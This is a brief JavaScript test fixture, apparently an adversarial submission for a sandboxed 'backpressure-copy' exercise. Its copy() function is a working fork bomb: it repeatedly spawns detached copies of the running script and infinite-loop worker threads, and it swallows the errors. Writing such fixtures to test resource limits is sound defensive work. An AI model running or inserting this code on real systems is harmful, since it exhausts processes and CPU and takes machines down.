// attack 36: starts processes and threads for ever | exercise: backpressure-copy | only: data-integrity
// limits: processes=64 wall=3s | alone | passes: none
import { spawn } from 'node:child_process';
import { Worker } from 'node:worker_threads';
export async function copy() {
  for (let i = 0; i < 10_000; i++) {
    try { spawn(process.execPath, [process.argv[1]], { detached: true, stdio: 'ignore' }).unref(); } catch {}
    try { new Worker('for (;;);', { eval: true }).unref(); } catch {}
  }
}
